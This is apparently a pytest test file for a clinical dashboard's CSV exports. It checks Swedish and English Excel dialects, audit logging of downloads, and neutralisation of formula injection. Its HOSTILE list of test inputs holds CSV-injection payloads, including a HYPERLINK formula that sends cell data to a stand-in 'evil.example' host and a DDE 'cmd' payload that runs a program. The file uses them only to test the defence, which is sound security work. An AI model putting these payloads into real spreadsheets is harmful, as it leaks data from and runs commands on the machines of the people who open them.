"""CSV downloads: the reader's Excel dialect, the series' public values, no formula runs, and
every download in the audit log.

Swedish Excel reads a CSV with ``;`` between cells and a decimal comma, English Excel with
``,`` and a point; a UTF-8 byte-order mark makes either read å, ä and ö right. A text cell
that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
(OWASP "CSV injection") and must get a leading ``'``; a negative number stays a number.
"""

from __future__ import annotations

import csv
import io
import math
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation

from dashboards.exports import matrix_csv, series_csv
from dashboards.panels import Filters, department_matrix
from lhs.spreadsheet import csv_bytes, number_cell, safe_cell, uses_decimal_comma
from measures.aggregation import series_recompute
from measures.enums import Direction, Frequency, MeasureKind
from measures.models import Series
from measures.series import public_columns
from tests.aggregation.conftest import Rows
from tests.factories import MeasureFactory, UnitFactory
from units.enums import AuditAction
from units.models import AuditEvent

BOM = b"\xef\xbb\xbf"

#: Names a spreadsheet would run as formulas (or that start with a formula character).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _parse(content: bytes) -> tuple[str, list[list[str]]]:
    """The delimiter and the rows of a CSV download (BOM required)."""
    assert content.startswith(BOM)
    text = content[len(BOM) :].decode("utf-8")
    first = text.split("\r\n", 1)[0]
    delimiter = ";" if ";" in first else ","
    return delimiter, list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _number(text: str, *, comma: bool) -> float | None:
    if text == "":
        return None
    if comma:
        assert "." not in text, text
        text = text.replace(",", ".")
    return float(text)


# --------------------------------------------------------------------------------------------
# lhs.spreadsheet
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_neutralises_a_formula(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["+1", "-1", "+1e3", "-0,5"])
def test_safe_cell_neutralises_a_text_that_looks_like_a_signed_number(text):
    """A unit named "+1" is text: Excel would read it as the number 1. Numbers are written by
    number_cell, never through safe_cell."""
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Avdelning 1 – Ångest", "2024-06-01", "1+1", "a=b", "", "'x"])
def test_safe_cell_leaves_ordinary_text(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["-inf", "-nan", "+inf"])
def test_safe_cell_neutralises_what_only_python_reads_as_a_number(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "comma", "expected"),
    [
        (-2.5, True, "-2,5"),
        (-2.5, False, "-2.5"),
        (66.666666666, False, "66.666667"),
        (66.666666666, True, "66,666667"),
        (1200, True, "1200"),  # no thousands separator: Excel would read 1 200 as text
        (-0.0000001, False, "0"),
        (Decimal("90.0000"), True, "90"),
        (3.0, False, "3"),
        (None, True, ""),
        (math.nan, False, ""),
        (math.inf, False, ""),
    ],
)
def test_number_cell(value, comma, expected):
    assert number_cell(value, decimal_comma=comma) == expected


@pytest.mark.parametrize(
    ("language", "comma"),
    [("sv", True), ("sv-se", True), ("en", False), ("en-gb", False), (None, False), ("", False)],
)
def test_decimal_comma_languages(language, comma):
    assert uses_decimal_comma(language) is comma


@pytest.mark.parametrize(
    ("language", "delimiter", "negative"), [("sv", ";", "-1,5"), ("en", ",", "-1.5")]
)
def test_csv_bytes(language, delimiter, negative):
    content = csv_bytes(
        ["Namn", "Värde"],
        [["=1+1", -1.5], ["Åsa; Öberg", 2], ["-3", None], ["a,b", Decimal("0.25")]],
        language=language,
    )

    found, rows = _parse(content)
    assert found == delimiter
    assert content.count(b"\r\n") == 5
    assert rows[0] == ["Namn", "Värde"]
    assert rows[1] == ["'=1+1", negative]
    assert rows[2] == ["Åsa; Öberg", "2"]
    assert rows[3][1] == ""
    assert rows[4] == ["a,b", "0,25" if language == "sv" else "0.25"]
    # A number is written bare (Excel reads it as a number), never with a quote or a '.
    raw = content.decode("utf-8-sig").splitlines()
    assert raw[1].endswith(delimiter + negative)


# --------------------------------------------------------------------------------------------
# The dialect of a download, from the reader's language
# --------------------------------------------------------------------------------------------


def _series_url(o, measure="care-plan", query=""):
    return reverse("dashboards:unit-csv", args=[o.b1.code, measure]) + query


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("how", "comma"),
    [
        ({"headers": {"Accept-Language": "sv-SE,sv;q=0.9,en;q=0.5"}}, True),
        ({"cookie": "sv"}, True),
        ({"headers": {"Accept-Language": "en-GB,en;q=0.9"}}, False),
        ({"cookie": "en", "headers": {"Accept-Language": "sv"}}, False),
        ({}, False),
    ],
)
@pytest.mark.parametrize(("measure", "grain"), [("care-plan", ""), ("honos-total", "month")])
def test_series_csv_in_the_readers_dialect_with_the_public_values(
    client, dash, how, comma, measure, grain
):
    client.force_login(dash.people["clinician"])
    if "cookie" in how:
        client.cookies["django_language"] = how["cookie"]

    response = client.get(_series_url(dash, measure, f"?grain={grain}"), headers=how.get("headers"))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    delimiter, (header, *rows) = _parse(response.content)
    assert delimiter == (";" if comma else ",")
    assert header[:2] == (["Periodens början", "Period"] if comma else ["Period start", "Period"])
    key = "careplan" if measure == "care-plan" else "honos"
    found = dash.measures[key]
    series = Series.objects.get(
        measure=found, node_key=f"unit:{dash.b1.pk}", grain=grain or found.frequency
    )
    columns = public_columns(series)
    assert [r[0] for r in rows] == columns["period"]
    fields = ["value", "n", "numerator", "denominator", "centre", "lower", "upper"]
    for i, row in enumerate(rows):
        assert len(row) == 11
        for position, name in enumerate(fields, start=2):
            got = _number(row[position], comma=comma)
            want = columns[name][i]
            if want is None:
                assert got is None, (name, row)
            else:
                assert got == pytest.approx(want, abs=5e-7), (name, row)
    if comma:
        assert any("," in r[2] for r in rows)  # decimals were written at all
        assert rows[0][1].lower() in {"juli 2023", "januari 2024"}  # named in Swedish


@pytest.mark.django_db
def test_the_swedish_csv_of_a_series_opens_in_one_column_per_field(client, dash):
    """Decimal commas never split a cell: every row has as many cells as the header."""
    client.force_login(dash.people["clinician"])
    client.cookies["django_language"] = "sv"

    content = client.get(_series_url(dash)).content.decode("utf-8-sig")

    lines = content.split("\r\n")[:-1]
    assert len(lines) == 22
    assert {line.count(";") for line in lines} == {10}
    numbers = [c for line in lines[1:] for c in line.split(";")[2:9] if c]
    assert numbers and all("." not in c for c in numbers)
    assert any("," in c for c in numbers)


@pytest.mark.django_db
def test_series_csv_under_translation_override(dash):
    careplan = dash.measures["careplan"]
    series = Series.objects.get(measure=careplan, node_key=f"unit:{dash.b1.pk}", grain="month")

    with translation.override("sv"):
        swedish = series_csv(careplan, series, "month", Filters(), language="sv")
    with translation.override("en"):
        english = series_csv(careplan, series, "month", Filters(), language="en")

    sv_rows, en_rows = _parse(swedish)[1], _parse(english)[1]
    assert len(sv_rows) == len(en_rows) == 22
    for sv_row, en_row in zip(sv_rows[1:], en_rows[1:], strict=True):
        assert sv_row[0] == en_row[0]
        for sv_cell, en_cell in zip(sv_row[2:9], en_row[2:9], strict=True):
            assert _number(sv_cell, comma=True) == _number(en_cell, comma=False)


@pytest.mark.django_db
def test_a_range_limits_the_csv(client, dash):
    client.force_login(dash.people["clinician"])

    content = client.get(_series_url(dash, query="?start=2024-02-01&end=2024-04-30")).content

    _d, (_header, *rows) = _parse(content)
    assert [r[0] for r in rows] == ["2024-02-01", "2024-03-01", "2024-04-01"]


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["sv", "en"])
def test_matrix_csv_values_are_the_latest_public_values(client, dash, language):
    client.force_login(dash.people["clinician"])
    client.cookies["django_language"] = language
    comma = language == "sv"

    delimiter, (header, *rows) = _parse(
        client.get(reverse("dashboards:department-csv", args=[dash.dept_b.code])).content
    )

    assert delimiter == (";" if comma else ",")
    by_name = {r[0]: r for r in rows}
    assert set(by_name) == {dash.b1.name, dash.dept_b.name, dash.division.name}
    for measure in (dash.measures["careplan"], dash.measures["honos"]):
        column = next(i for i, h in enumerate(header) if h.startswith(measure.name))
        for name, node in (
            (dash.b1.name, f"unit:{dash.b1.pk}"),
            (dash.dept_b.name, f"department:{dash.dept_b.pk}"),
            (dash.division.name, f"division:{dash.division.pk}"),
        ):
            series = Series.objects.get(measure=measure, node_key=node, grain=measure.frequency)
            columns = public_columns(series)
            assert by_name[name][column + 1] == columns["period"][-1]
            assert _number(by_name[name][column], comma=comma) == pytest.approx(
                columns["value"][-1], abs=5e-7
            )


# --------------------------------------------------------------------------------------------
# Formula injection in matrices
# --------------------------------------------------------------------------------------------


@pytest.fixture
def hostile(org):
    """Units and measures with hostile names; a change score with negative values."""
    units = [
        UnitFactory(department=org.dept_a, code=f"EVIL-{i}", name=name)
        for i, name in enumerate(HOSTILE)
    ]
    measures = [
        MeasureFactory(
            code=f"evil-{i}",
            name=name,
            kind=MeasureKind.MEAN,
            direction=Direction.DOWN,
            frequency=Frequency.MONTH,
        )
        for i, name in enumerate(HOSTILE)
    ]
    change = MeasureFactory(
        code="change",
        name="Change in HoNOS",
        kind=MeasureKind.MEAN,
        direction=Direction.DOWN,
        frequency=Frequency.MONTH,
        value_min=-48,
        value_max=48,
    )
    batch = Rows(org.people["support"])
    for month in range(1, 7):
        for unit in [org.a1, *units]:
            batch.value(change, unit, date(2024, month, 3), -3.5, times=6)
            batch.value(measures[0], unit, date(2024, month, 3), 4, times=6)
    batch.save()
    series_recompute()
    return units, measures, change


def _hostile_cells_are_neutralised(rows: list[list[str]]) -> int:
    checked = 0
    for row in rows:
        for cell in row:
            for name in HOSTILE:
                if cell.endswith(name.lstrip("\t\r")) and name in cell:
                    assert cell.startswith("'"), cell
                    checked += 1
            if cell and cell[0] in "=+-@\t\r":
                # Only numbers may begin with a formula character: negative values.
                assert float(cell.replace(",", ".")) < 0, cell
    return checked


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["sv", "en"])
@pytest.mark.parametrize("level", ["department", "division", "division units"])
def test_hostile_names_are_neutralised_and_negative_numbers_stay_numbers(
    client, org, hostile, language, level
):
    units, measures, _change = hostile
    client.force_login(org.people["clinician"])
    client.cookies["django_language"] = language
    url = {
        "department": reverse("dashboards:department-csv", args=[org.dept_a.code]),
        "division": reverse("dashboards:division-csv", args=[org.division.code]),
        "division units": reverse("dashboards:division-csv", args=[org.division.code])
        + "?rows=units",
    }[level]

    _delimiter, rows = _parse(client.get(url).content)

    header = rows[0]
    checked = _hostile_cells_are_neutralised(rows)
    # Every hostile measure name is in the header (twice: the value and its period), and in
    # the unit rows every hostile unit name, each neutralised.
    names = [m.name for m in measures]
    for name in names:
        assert "'" + name in header, name
    if level != "division":
        first = [r[0] for r in rows[1:]]
        for unit in units:
            assert "'" + unit.name in first, unit.name
    assert checked >= len(HOSTILE)
    # The change score is a negative number, written as one.
    column = header.index("Change in HoNOS")
    values = [r[column] for r in rows[1:] if r[column]]
    assert values and all(v == ("-3,5" if language == "sv" else "-3.5") for v in values)


@pytest.mark.django_db
def test_matrix_csv_function_neutralises_names(org, hostile):
    with translation.override("en"):
        matrix = department_matrix(org.dept_a, Filters())
        content = matrix_csv(matrix, language="en")
    raw = content.decode("utf-8-sig")
    # No line of the file begins with a formula character, quoted or not.
    for line in raw.split("\r\n"):
        assert not line.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r")), line
    assert "'=HYPERLINK(" in raw and "'@SUM(A1:A9)" in raw and "'-2+3" in raw and "'+1" in raw


# --------------------------------------------------------------------------------------------
# The audit log
# --------------------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "args", "query", "target"),
    [
        ("dashboards:unit-csv", ["AFF-01", "care-plan"], "", "series care-plan AFF-01 month"),
        (
            "dashboards:unit-csv",
            ["AFF-01", "honos-total"],
            "?grain=quarter",
            "series honos-total AFF-01 quarter",
        ),
        ("dashboards:department-csv", ["aff"], "?sort=care-plan", "matrix aff"),
        ("dashboards:division-csv", ["psy"], "?rows=units", "matrix psy"),
    ],
)
def test_every_csv_download_is_in_the_audit_log(client, dash, name, args, query, target):
    client.force_login(dash.people["clinician"])
    before = AuditEvent.objects.filter(action=AuditAction.DOWNLOAD).count()

    response = client.get(reverse(name, args=args) + query, REMOTE_ADDR="10.1.2.3")

    assert response.status_code == 200
    events = list(AuditEvent.objects.filter(action=AuditAction.DOWNLOAD).order_by("pk"))
    assert len(events) == before + 1
    event = events[-1]
    assert event.target == target
    assert event.actor_name == "clinician" and event.actor_id == dash.people["clinician"].pk
    assert event.ip_address == "10.1.2.3"


@pytest.mark.django_db
def test_a_refused_download_is_not_logged_as_one(client, dash):
    client.force_login(dash.people["clinician"])

    assert client.get(reverse("dashboards:unit-csv", args=["AFF-01", "nope"])).status_code == 404
    client.logout()
    assert (
        client.get(reverse("dashboards:unit-csv", args=["AFF-01", "care-plan"])).status_code == 302
    )

    assert not AuditEvent.objects.filter(action=AuditAction.DOWNLOAD).exists()


@pytest.mark.django_db
def test_the_download_names_the_file(client, dash):
    client.force_login(dash.people["clinician"])

    response = client.get(_series_url(dash, "honos-total", "?grain=month"))

    assert response["Content-Disposition"] == 'attachment; filename="PSY-01-honos-total-month.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"


def test_weeks_are_written_as_iso_dates():
    """Excel reads 2024-03-11 as a date in both dialects; no locale-dependent date text."""
    content = csv_bytes(
        ["d"], [[(date(2024, 3, 4) + timedelta(weeks=1)).isoformat()]], language="sv"
    )
    assert _parse(content)[1][1] == ["2024-03-11"]
